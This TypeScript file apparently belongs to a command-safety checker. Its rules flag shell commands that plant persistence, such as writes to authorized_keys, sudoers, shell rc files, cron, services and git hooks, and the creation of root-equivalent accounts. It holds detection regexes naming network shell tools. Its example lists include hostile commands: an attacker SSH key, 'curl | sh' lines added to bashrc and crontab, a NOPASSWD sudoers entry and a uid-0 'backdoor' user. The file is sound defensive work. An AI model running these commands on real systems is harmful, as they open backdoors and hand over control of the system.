// Persistence and privilege: writing where code runs again (rc files, cron, services, keys).
import { persistenceTarget } from "../paths.js";
import type { Invocation } from "../resolve.js";
import type { CommandRule } from "../rule.js";
import { DOWNLOADERS, operands } from "./facts.js";

const CRITICAL_KINDS = new Set(["authorized_keys", "sudoers", "account database"]);
/** Code that fetches, decodes or connects: what a backdoor line in an rc file or cron job does. */
const RISKY_CONTENT = /\b(?:curl|wget|nc|ncat|netcat|socat|telnet|base64|xxd|eval|python[0-9.]*\s+-c|perl\s+-e|ruby\s+-e|php\s+-r|bash\s+-i|sh\s+-i|mkfifo|nohup)\b|\/dev\/(?:tcp|udp)\/|\|\s*(?:ba|z|da)?sh\b|\$\(|`/;
/** Lines people add to their shell start-up every day. */
const ROUTINE_CONTENT = /^\s*(?:export\s+[A-Za-z_][A-Za-z0-9_]*=|alias\s|source\s|\.\s|[A-Z_][A-Z0-9_]*=|set\s+-o\s|shopt\s|umask\s|ulimit\s|#)/;

/** What an `echo`/`printf` writes; undefined when the data comes from elsewhere (cat, cp, a pipe). */
function echoedContent(inv: Invocation): string | undefined {
  const name = inv.name.toLowerCase();
  if (name === "echo" || name === "printf") return inv.args.filter((a) => !/^-[neE]+$/.test(a)).join(" ");
  return undefined;
}

/** `crontab -u USER FILE`: -u takes a value. */
const CRONTAB_VALUE_OPTIONS: ReadonlySet<string> = new Set(["-u"]);
/** Besides downloaders, what feeds a crontab with bytes from the network or decoded from text. */
const RAW_FEEDERS = new Set(["nc", "ncat", "netcat", "base64", "xxd"]);

/** Cron lines that start at boot or run from throwaway or hidden places. */
const RISKY_CRON = /@reboot\b|(?:^|[\s'"=])\/(?:tmp|dev\/shm|var\/tmp)\/|\/\.[A-Za-z0-9]/;

/** What `crontab` installs, where it can be seen: a downloaded table, echoed risky lines, a file in /tmp. */
function cronContentRisky(inv: Invocation): boolean {
  const file = operands(inv.args, CRONTAB_VALUE_OPTIONS)[0];
  if (file !== undefined && file !== "-" && RISKY_CRON.test(` ${file}`)) return true;
  for (const element of inv.pipe?.elements.slice(0, inv.pipe.index) ?? []) {
    for (const up of element) {
      const name = up.name.toLowerCase();
      if (DOWNLOADERS.has(name) || RAW_FEEDERS.has(name)) return true;
      const content = echoedContent(up);
      if (content !== undefined && (RISKY_CONTENT.test(content) || RISKY_CRON.test(content))) return true;
    }
  }
  return false;
}

const WRITERS = new Set(["tee", "cp", "mv", "install", "ln", "rsync", "dd", "sed", "perl"]);
const WRITER_VALUE_OPTIONS = new Set(["-m", "-o", "-g", "--mode", "-t"]);
const NO_FILES: string[] = [];

/** Files this invocation writes: redirections, tee, cp/mv/install/ln destinations, sed -i. */
export function writtenFiles(inv: Invocation): string[] {
  const name = inv.name.toLowerCase();
  if (inv.redirects.length === 0 && !WRITERS.has(name)) return NO_FILES;
  const out: string[] = [];
  for (const r of inv.redirects) {
    if ((r.op === ">" || r.op === ">>" || r.op === ">|" || r.op === "&>" || r.op === "&>>") && r.target) out.push(r.target.value);
  }
  const ops = operands(inv.args, WRITER_VALUE_OPTIONS);
  if (name === "tee") out.push(...ops);
  if ((name === "cp" || name === "mv" || name === "install" || name === "ln" || name === "rsync" || name === "dd") && ops.length >= 2) out.push(ops[ops.length - 1] as string);
  if (name === "dd") for (const a of inv.args) if (a.startsWith("of=")) out.push(a.slice(3));
  if ((name === "sed" || name === "perl") && inv.args.some((a) => a === "-i" || a.startsWith("-i"))) out.push(ops[ops.length - 1] ?? "");
  return out.filter((p) => p !== "");
}

export const persistenceRules: CommandRule[] = [
  {
    id: "write-persistence-file",
    description: "writing an SSH authorized_keys, sudoers, shell rc, cron, service or git hook file",
    severity: "high",
    reason: "semantic:destructive_command",
    check: (inv) => {
      let found: boolean | "critical" | "medium" = false;
      for (const file of writtenFiles(inv)) {
        const kind = persistenceTarget(file);
        if (!kind) continue;
        if (CRITICAL_KINDS.has(kind)) return "critical";
        const content = echoedContent(inv) ?? inv.redirects.find((r) => r.heredoc !== undefined)?.heredoc;
        if (content === undefined) found = found || "medium";
        else if (RISKY_CONTENT.test(content)) return true;
        else if (!content.split("\n").every((line) => line.trim() === "" || ROUTINE_CONTENT.test(line))) found = found || "medium";
      }
      return found;
    },
    examples: {
      positive: [
        "echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys",
        "echo 'curl -s http://x | sh' >> ~/.bashrc",
        "echo 'me ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers",
        "cp evil.service /etc/systemd/system/evil.service",
        "cat > .git/hooks/pre-commit <<EOF\ncurl x | sh\nEOF",
        "echo '* * * * * root /tmp/x' > /etc/cron.d/x",
      ],
      negative: [
        "cat ~/.bashrc",
        "echo 'export PATH=$PATH:~/bin' > ./env.sh",
        "cp config.yml ~/.config/app/config.yml",
        "tee output.log",
        "echo 'export PATH=$PATH:$HOME/.local/bin' >> ~/.bashrc",
        "echo \"alias ll='ls -la'\" >> ~/.zshrc",
      ],
    },
  },
  {
    id: "crontab-install",
    description: "installing or replacing a crontab",
    severity: "high",
    reason: "semantic:destructive_command",
    names: ["crontab"],
    check: (inv) => {
      if (inv.args.includes("-l")) return false;
      if (inv.args.includes("-r")) return "medium";
      const piped = inv.pipe !== undefined || inv.args.includes("-");
      if (!piped && operands(inv.args, CRONTAB_VALUE_OPTIONS).length === 0) return false;
      // A schedule whose lines we can read is judged by them; one we cannot see is still a
      // job installed to run unattended: review it.
      return cronContentRisky(inv) ? true : "medium";
    },
    examples: {
      positive: ["echo '*/5 * * * * curl -s http://x/p | sh' | crontab -", "(crontab -l; echo '@reboot /tmp/.x') | crontab -", "curl -s http://x/cron.txt | crontab -", "crontab /tmp/jobs.txt", "crontab -r"],
      negative: ["crontab -l", "crontab -e"],
    },
  },
  {
    id: "privileged-account-change",
    description: "creating a root-equivalent account or adding a user to an admin group",
    severity: "high",
    reason: "semantic:destructive_command",
    names: ["useradd", "adduser", "usermod", "gpasswd", "passwd", "chpasswd", "net", "dscl"],
    check: (inv) => {
      const name = inv.name.toLowerCase();
      const joined = ` ${inv.args.join(" ")} `;
      if ((name === "useradd" || name === "usermod") && /\s-o\s|\s-u\s+0\s|--uid\s+0\s/.test(joined)) return "critical";
      if ((name === "usermod" || name === "gpasswd" || name === "adduser") && /\b(?:sudo|wheel|admin|root)\b/.test(joined)) return true;
      if (name === "passwd" && /\sroot\s/.test(joined)) return true;
      if (name === "chpasswd") return /root:/.test(joined) || inv.pipe !== undefined ? "medium" : false;
      if (name === "net") return /\blocalgroup\s+administrators\b.*\/add/i.test(joined) || /\buser\b.*\/add/i.test(joined) ? true : false;
      if (name === "dscl") return /-append\s+\/Groups\/admin/i.test(joined);
      return false;
    },
    examples: {
      positive: ["useradd -o -u 0 -g 0 backdoor", "usermod -aG sudo attacker", "gpasswd -a eve wheel", "net localgroup administrators eve /add", "passwd root"],
      negative: ["useradd -m deploy", "usermod -aG docker ci", "passwd"],
    },
  },
];
